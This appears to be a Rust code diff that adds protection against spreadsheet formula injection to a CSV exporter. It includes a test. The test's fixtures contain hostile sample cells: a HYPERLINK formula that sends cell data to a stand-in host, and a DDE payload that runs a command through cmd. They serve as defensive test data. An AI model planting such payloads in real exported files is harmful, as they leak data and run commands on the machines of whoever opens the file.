@@ -232,14 +232,44 @@ impl Table {
     }
 }
 
-/// CSV with a byte-order mark, so spreadsheet programs open it as UTF-8.
+/// Whether a spreadsheet program would take the cell for a formula (or a quoted one, so that
+/// the quote itself round-trips): it starts with `= + - @`, a tab or a carriage return, or with a
+/// `'` before such a start.
+fn reads_as_formula(cell: &str) -> bool {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
+        Some('\'') => reads_as_formula(&cell[1..]),
+        _ => false,
+    }
+}
+
+/// A cell as written to CSV: one that would read as a formula gets a leading `'`, which
+/// spreadsheet programs show as text (a unit named `=HYPERLINK(…)` stays a name).
+pub(crate) fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    if reads_as_formula(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// The cell [`neutralise`] was given, from what it wrote.
+pub(crate) fn restore(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if reads_as_formula(rest) => rest,
+        _ => cell,
+    }
+}
+
+/// CSV with a byte-order mark, so spreadsheet programs open it as UTF-8. Cells that would read
+/// as formulas are neutralised (see [`neutralise`]); the reader restores them.
 pub fn to_csv(t: &Table) -> Vec<u8> {
     let mut out = "\u{feff}".as_bytes().to_vec();
     {
         let mut w = csv::Writer::from_writer(&mut out);
-        let _ = w.write_record(&t.headers);
+        let _ = w.write_record(t.headers.iter().map(|h| neutralise(h).into_owned()));
         for r in &t.rows {
-            let _ = w.write_record(r);
+            let _ = w.write_record(r.iter().map(|c| neutralise(c).into_owned()));
         }
         let _ = w.flush();
     }
@@ -301,6 +331,37 @@ mod tests {
             .push(vec!["32.73.01.1001".into(), "Ünïcode ✓".into()]);
         assert_eq!(read(&to_csv(&t)).unwrap(), t);
         assert_eq!(read(&to_xlsx(&t, "unit").unwrap()).unwrap(), t);
+    }
+
+    #[test]
+    fn csv_cells_that_would_run_as_formulas_are_neutralised_and_read_back_whole() {
+        let mut t = Table::new(&["kode", "nama"]);
+        for v in [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+62 812",
+            "-",
+            "\tx",
+            "'=already quoted",
+            "''",
+            "O'Brien",
+            "Desa Maju",
+        ] {
+            t.rows.push(vec!["A".into(), v.into()]);
+        }
+        let bytes = to_csv(&t);
+        let text = String::from_utf8(bytes.clone()).unwrap();
+        for line in text.lines().skip(1) {
+            let cell = line.trim_start_matches("A,").trim_start_matches('"');
+            assert!(
+                !matches!(
+                    cell.chars().next(),
+                    Some('=' | '+' | '-' | '@' | '\t' | '\r')
+                ),
+                "{line:?}"
+            );
+        }
+        assert_eq!(read(&bytes).unwrap(), t);
     }
 
     #[test]
